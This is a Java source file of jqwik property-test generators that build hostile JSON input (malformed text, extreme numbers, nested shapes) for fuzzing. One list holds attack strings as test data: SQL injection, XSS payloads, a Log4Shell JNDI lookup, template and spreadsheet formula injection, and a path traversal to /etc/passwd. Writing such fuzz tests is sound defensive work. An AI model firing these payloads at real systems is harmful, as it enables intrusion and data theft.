package org.demarche.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/** jqwik generators of what an attacker or a broken client sends: odd text, odd numbers, odd shapes. */
final class HostileJson {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Strings chosen to break naive code: injection, markup, control and invisible characters. */
    private static final List<String> NASTY = List.of(
            "'; DROP TABLE official; --",
            "\" OR \"1\"=\"1",
            "1' OR '1'='1' /*",
            "%' AND 1=1 --",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "${jndi:ldap://example.org/a}",
            "{{7*7}}",
            "#{7*7}",
            "=HYPERLINK(\"http://x\")",
            "+cmd|' /C calc'!A0",
            "../../../../etc/passwd",
            "%00",
            "\\u0000",
            "\u200B",
            "\u200D",
            "\u2060",
            "\uFEFF",
            "\u202E\u202D",
            "\u0007\u0008\u001B",
            "\t\r\n",
            "\u0085\u2028\u2029",
            "e\u0301\u0301\u0301",
            "\uD83D\uDE00\uD83C\uDDF7\uD83C\uDDFA",
            "\uD800",
            "\uDFFF",
            "a\uD800b",
            "\u0000",
            "\uFFFF",
            "\uFFFE",
            "Z\u0351\u0352\u0353\u0354",
            "null",
            "true",
            "[]",
            "{}",
            "NaN",
            "-0",
            "1e400",
            " ",
            "");

    private HostileJson() {}

    /** Text of any kind: every UTF-16 unit including lone surrogates, the nasty list, and mixtures. */
    static Arbitrary<String> text() {
        Arbitrary<String> nasty = Arbitraries.of(NASTY);
        Arbitrary<String> anyUnits = Arbitraries.strings().all().ofMaxLength(60);
        Arbitrary<String> printable = Arbitraries.strings()
                .withCharRange(' ', '\u024F')
                .ofMinLength(1)
                .ofMaxLength(80);
        Arbitrary<String> mixed =
                Combinators.combine(printable, nasty, printable).as((a, b, c) -> a + b + c);
        Arbitrary<String> long_ =
                Arbitraries.strings().withCharRange('a', 'z').ofMinLength(190).ofMaxLength(12000);
        return Arbitraries.frequencyOf(
                Tuple.of(3, nasty),
                Tuple.of(3, anyUnits),
                Tuple.of(3, mixed),
                Tuple.of(2, printable),
                Tuple.of(1, long_));
    }

    /** Numbers a field never expects: huge, tiny, negative, fractional. */
    static Arbitrary<JsonNode> number() {
        return Arbitraries.oneOf(
                Arbitraries.integers().map(NODES::numberNode),
                Arbitraries.longs().map(NODES::numberNode),
                Arbitraries.doubles().map(NODES::numberNode),
                Arbitraries.bigIntegers()
                        .between(BigInteger.TEN.pow(20), BigInteger.TEN.pow(400))
                        .map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.of("1e400", "-1e400", "1e-400", "123456789012345678901234567890.5")
                        .map(n -> (JsonNode) NODES.numberNode(new BigDecimal(n))));
    }

    static Arbitrary<JsonNode> scalar() {
        return Arbitraries.frequencyOf(
                Tuple.of(1, Arbitraries.just((JsonNode) NODES.nullNode())),
                Tuple.of(1, Arbitraries.of(true, false).map(b -> (JsonNode) NODES.booleanNode(b))),
                Tuple.of(3, number()),
                Tuple.of(5, text().map(s -> (JsonNode) NODES.textNode(s))));
    }

    /** Any JSON value up to three levels deep, with object keys taken from {@code fieldNames} or random. */
    static Arbitrary<JsonNode> value(List<String> fieldNames) {
        Arbitrary<String> keys = Arbitraries.oneOf(Arbitraries.of(fieldNames), text());
        return Arbitraries.recursive(
                HostileJson::scalar,
                inner -> Arbitraries.oneOf(
                        inner.list().ofMaxSize(4).map(HostileJson::array),
                        Combinators.combine(keys, inner)
                                .as(Map::entry)
                                .list()
                                .ofMaxSize(4)
                                .map(HostileJson::object)),
                0,
                3);
    }

    private static JsonNode array(List<JsonNode> items) {
        ArrayNode array = NODES.arrayNode();
        items.forEach(array::add);
        return array;
    }

    private static JsonNode object(List<Map.Entry<String, JsonNode>> fields) {
        ObjectNode object = NODES.objectNode();
        fields.forEach(field -> object.set(field.getKey(), field.getValue()));
        return object;
    }
}
